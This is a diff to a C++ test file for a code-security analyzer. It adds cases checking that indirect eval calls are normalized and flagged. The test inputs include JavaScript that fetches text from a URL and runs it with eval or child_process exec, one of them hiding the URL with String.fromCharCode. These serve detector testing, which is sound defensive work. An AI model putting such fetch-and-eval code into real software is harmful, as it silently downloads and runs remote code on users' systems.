@@ -47,6 +47,11 @@ TEST_CASE("module aliases and from-imports are spelled canonically, line breaks 
   REQUIRE(direct);
   CHECK(direct->find("exec(s)") != std::string::npos);
   CHECK(direct->find("os.system(c)") != std::string::npos);
+  auto indirect = canonical_aliases(Language::tsx, "fetch(u).then((r) => r.text()).then((t) => (0, eval)(t));\n(1,window.eval)(s);\n");
+  REQUIRE(indirect);
+  CHECK(indirect->find("=> eval(t)") != std::string::npos);
+  CHECK(indirect->find("\neval(s)") != std::string::npos);
+  CHECK_FALSE(canonical_aliases(Language::javascript, "const pair = (0, evaluate)(x);\nf(a, b.eval);\n"));
   auto js = canonical_aliases(Language::javascript,
                               "const { exec: run } = require('child_process');\nrun(c);\nglobalThis['eval'](s);\n");
   REQUIRE(js);
@@ -79,6 +84,12 @@ TEST_CASE("renamed sinks and sources still reach the detectors") {
   check_detector("a.js",
         "const { exec: run } = require('child_process');\n(async () => { run(await (await fetch(u)).text()); })();\n",
         "code.exec.fetched-code", true);
+  // The indirect eval runs the downloaded text as eval does: the data flow follows it there too.
+  auto indirect = code::test::shipped_analyzer()->analyze_write(
+      "src/main.tsx", "const u = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 105, 111);\n"
+                      "fetch(u)\n  .then((r) => r.text())\n  .then((t) => (0, eval)(t))\n  .catch(() => undefined);\n");
+  CHECK(std::any_of(indirect.markers.begin(), indirect.markers.end(),
+                    [](const Marker& m) { return m.name == "fetched_code_runs"; }));
 }
 
 TEST_CASE("renamed imports used for ordinary work stay ordinary") {
